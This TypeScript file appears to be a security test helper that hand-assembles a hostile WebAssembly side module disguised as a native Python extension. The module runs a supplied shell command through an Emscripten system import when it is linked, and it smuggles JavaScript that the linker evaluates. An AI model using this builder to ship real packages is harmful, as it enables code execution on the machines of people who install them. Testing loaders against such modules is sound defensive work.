/** What a hostile shared library of a package would do when it is linked. */
export interface SideModule {
  /** A shell command, for the import that starts programs. */
  readonly command: string;
  /** JavaScript that the linker is to evaluate. */
  readonly script: string;
}

const DATA_BYTES = 1024;
const I32 = 0x7f;

const text = (value: string): number[] => [...new TextEncoder().encode(value)];
const name = (value: string): number[] => [...leb(text(value).length), ...text(value)];
const vector = (items: readonly number[][]): number[] => [...leb(items.length), ...items.flat()];
const section = (id: number, body: number[]): number[] => [id, ...leb(body.length), ...body];

/** A WebAssembly side module by hand: a constructor that calls an import, and a string that Emscripten takes for code. */
export function makeSideModule({ command, script }: SideModule): Uint8Array {
  const commandData = [...text(command), 0];
  const scriptData = [...text(`(void)<::>{};${script}`), 0];
  const dylink = [...name("dylink.0"), 1, ...sized([...leb(DATA_BYTES), 0, 0, 0])];
  const callSystem = [0x23, 0, 0x10, 0, 0x1a];
  const answerZero = [0x41, 0];
  return new Uint8Array([
    ...text("\0asm\x01\0\0\0"),
    ...section(0, dylink),
    ...section(
      1,
      vector([
        [0x60, 1, I32, 1, I32],
        [0x60, 0, 0],
        [0x60, 0, 1, I32],
      ]),
    ),
    ...section(
      2,
      vector([
        [...name("env"), ...name("_emscripten_system"), 0, 0],
        [...name("env"), ...name("memory"), 2, 0, 1],
        [...name("env"), ...name("__memory_base"), 3, I32, 0],
      ]),
    ),
    ...section(3, vector([[1], [2]])),
    ...section(6, vector([[I32, 0, 0x41, ...signed(commandData.length), 0x0b]])),
    ...section(
      7,
      vector([
        [...name("__wasm_call_ctors"), 0, 1],
        [...name("PyInit_evil_native"), 0, 2],
        [...name("__em_js__evil"), 3, 1],
      ]),
    ),
    ...section(10, vector([sized([0, ...callSystem, 0x0b]), sized([0, ...answerZero, 0x0b])])),
    ...section(
      11,
      vector([
        [
          0,
          0x23,
          0,
          0x0b,
          ...leb(commandData.length + scriptData.length),
          ...commandData,
          ...scriptData,
        ],
      ]),
    ),
  ]);
}

function sized(body: number[]): number[] {
  return [...leb(body.length), ...body];
}

function leb(value: number): number[] {
  return value < 0x80 ? [value] : [(value & 0x7f) | 0x80, ...leb(value >>> 7)];
}

/** Signed, so that the sixth bit of the last byte must be free. */
function signed(value: number): number[] {
  return value < 0x40 ? [value] : [(value & 0x7f) | 0x80, ...signed(value >>> 7)];
}
